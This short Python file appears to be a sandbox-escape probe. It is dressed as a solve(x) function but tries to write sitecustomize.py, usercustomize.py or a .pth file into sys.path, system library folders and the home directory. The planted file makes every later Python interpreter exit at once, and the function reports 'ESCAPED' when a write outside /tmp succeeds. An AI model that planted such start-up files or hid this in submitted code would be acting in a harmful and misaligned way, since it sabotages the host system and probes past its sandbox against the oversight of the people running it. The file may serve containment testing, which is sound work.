# Tries: plant start-up files for the next interpreter
# As: function
import os, sys
def solve(x):
    for folder in sys.path + ['/usr/lib/python3.11', '/python/lib/python3.11', os.path.expanduser('~')]:
        for name in ('sitecustomize.py', 'usercustomize.py', 'x.pth'):
            try:
                open(os.path.join(folder, name), 'w').write('import os; os._exit(0)')
            except OSError:
                continue
            if not folder.startswith('/tmp'):
                return 'ESCAPED ' + folder
    return 'nothing'
